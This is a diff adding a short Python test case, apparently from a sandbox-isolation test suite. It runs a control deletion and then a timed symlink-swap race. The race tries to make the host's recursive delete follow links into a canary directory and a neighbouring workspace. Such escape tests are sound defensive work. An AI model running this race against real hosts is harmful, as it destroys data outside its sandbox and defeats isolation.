@@ -1,0 +1,31 @@
+"""Puts links to host directories where the host deletes a tree.
+
+Escape: a canary file or directory is deleted
+Control: a directory of the guest's can be deleted
+"""
+
+# control
+import os
+
+os.makedirs("inbox/old/deep", exist_ok=True)
+os.rmdir("inbox/old/deep")
+os.path.isdir("inbox/old")
+
+# attack
+import time
+
+end = time.monotonic() + 1.5
+done = 0
+while time.monotonic() < end:
+    try:
+        os.makedirs("inbox/old/deep/deeper", exist_ok=True)
+        os.rename("inbox/old/deep", "kept")
+        os.symlink(places["canary_dir"], "inbox/old/deep")
+        os.symlink(places["neighbour_workspace"], "inbox/old/next")
+        done += 1
+        os.unlink("inbox/old/deep")
+        os.rename("kept", "inbox/old/deep")
+    except OSError:
+        pass
+os.symlink(places["canary_dir"], f"link-{done}")
+done > 5
